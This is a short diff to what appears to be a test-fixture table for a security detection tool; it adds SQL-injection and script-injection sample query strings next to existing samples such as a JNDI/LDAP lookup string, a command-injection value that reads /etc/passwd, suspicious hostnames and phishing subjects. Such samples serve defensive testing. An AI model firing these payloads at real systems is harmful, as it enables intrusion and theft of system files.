@@ -21,6 +21,7 @@ TEXTS = {
         "/?x=${jndi:ldap://192.0.2.7/a}",
         "/ping?host=127.0.0.1;cat%20/etc/passwd",
     ),
+    "http_request.url.query_string": ("id=1%27+union+select+null--+-", "q=%3Cscript%3Ealert(1)%3C/script%3E&page=2"),
     "query.hostname": ("xkqjvbzpwq.example", "mail.kfjwoeiruty.example.net", "a1b2c3d4e5f6.test"),
     "osint.value": (["malice.example"], ["good.example"]),
     "email.subject": ("Your account is suspended: verify your password now", "Cheap pills, no prescription"),
